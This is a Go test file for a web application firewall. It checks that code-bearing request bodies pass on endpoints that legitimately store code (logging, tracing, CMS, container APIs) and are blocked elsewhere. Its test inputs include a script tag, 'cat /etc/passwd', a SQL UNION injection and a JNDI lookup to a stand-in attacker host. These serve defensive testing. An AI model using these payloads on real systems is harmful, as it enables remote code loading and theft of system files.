package waf

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"gatehouse/waf/variables"
)

// savedCode are requests by which applications take code as their purpose;
// CODE is a JSON string.
var savedCode = []struct{ path, body string }{
	{"/v1/traces", `{"resourceSpans":[{"resource":{"attributes":[{"key":"process.command","value":{"stringValue":CODE}}]}}]}`},
	{"/loki/api/v1/push", `{"streams":[{"stream":{"job":"web"},"values":[["1764100221000000000",CODE]]}]}`},
	{"/api/42/store/", `{"event_id":"1","exception":{"values":[{"value":CODE}]}}`},
	{"/services/collector/event", `{"time":1,"event":CODE}`},
	{"/report", `[{"type":"csp-violation","body":{"blockedURL":"inline","sample":CODE}}]`},
	{"/apis/apps/v1/namespaces/shop/deployments", `{"spec":{"template":{"spec":{"containers":[{"command":["sh","-c",CODE]}]}}}}`},
	{"/v1.45/containers/create", `{"Image":"x","Cmd":["sh","-c",CODE]}`},
	{"/wp-json/wp/v2/posts/7", `{"content":CODE}`},
	{"/blog/ghost/api/admin/posts/1/", `{"posts":[{"codeinjection_foot":CODE}]}`},
	{"/admin/api/2026-10/themes/1/assets.json", `{"asset":{"key":"a","value":CODE}}`},
	{"/api/contents/a.ipynb", `{"content":{"cells":[{"cell_type":"code","source":CODE}]}}`},
	{"/shop-logs/_bulk", `[{"message":CODE}]`},
	{"/rest/workflows/3", `{"nodes":[{"parameters":{"jsCode":CODE}}]}`},
	{"/api/dashboards/db", `{"dashboard":{"panels":[{"targets":[{"rawSql":CODE}]}]}}`},
	{"/api/v4/projects/7/repository/files/a.sh", `{"content":CODE}`},
	{"/gists", `{"files":{"a":{"content":CODE}}}`},
}

func savedTo(path, body, code string) *variables.Request {
	text, _ := json.Marshal(code)
	data := strings.Replace(body, "CODE", string(text), 1)
	return request("PUT", path, "HTTP/1.1", []variables.Pair{{Name: "Host", Value: "shop.example"}, {Name: "User-Agent", Value: "Mozilla/5.0"}, {Name: "Accept", Value: "*/*"},
		{Name: "Content-Type", Value: "application/json"}, {Name: "Content-Length", Value: fmt.Sprint(len(data))}}, data)
}

// TestCodePassesWhereItIsThePurpose sends code to applications that take it,
// to others, and in other fields. What is made of logs stays dangerous in them.
func TestCodePassesWhereItIsThePurpose(t *testing.T) {
	oneGoroutine(t)
	j := balancedJudge(t)
	const code = "<script>fetch('/x').then(r => r.json())</script>; cat /etc/passwd | sort; SELECT 1 UNION SELECT 2,3 FROM users--"
	for _, s := range savedCode {
		if jm := verdict(t, j, savedTo(s.path, s.body, code)); jm.Blocked {
			t.Errorf("%s is blocked: score %d,%s", s.path, jm.Score, doubts(&jm))
		}
		if jm := verdict(t, j, savedTo(s.path, s.body, "${jndi:ldap://evil.test/a}")); !jm.Blocked {
			t.Errorf("a lookup passes at %s:%s", s.path, doubts(&jm))
		}
		if jm := verdict(t, j, savedTo(s.path, `{"comment":CODE}`, code)); !jm.Blocked && !strings.HasPrefix(s.path, "/api/42") {
			t.Errorf("another field passes at %s:%s", s.path, doubts(&jm))
		}
		for _, path := range []string{"/index.php" + s.path, "/a/b" + s.path} {
			if strings.Contains(s.body, "resourceSpans") || strings.Contains(s.body, "csp-violation") || strings.HasPrefix(s.path, "/loki") {
				continue // known by the names of their fields
			}
			if jm := verdict(t, j, savedTo(path, s.body, code)); !jm.Blocked {
				t.Errorf("%s passes:%s", path, doubts(&jm))
			}
		}
	}
}
